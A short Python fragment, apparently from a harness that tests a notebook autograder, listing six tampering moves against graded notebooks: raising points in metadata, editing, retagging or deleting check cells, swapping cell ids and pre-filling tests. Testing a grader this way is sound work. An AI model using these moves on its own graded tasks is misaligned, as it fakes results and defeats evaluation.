    notebook["cells"] = [c for c in notebook["cells"] if "lab.check" not in c["source"]]


for name, change in {
    "points raised in the metadata": raise_points,
    "tags on check cells": tag_checks,
    "cell ids swapped": swap_ids,
    "tests pre-filled": prefill,
    "check cells edited": edit_checks,
    "check cells removed": remove_checks,
}.items():
    attack(name, change.__doc__ or name.capitalize() + ".", change=change, says="told: nothing")
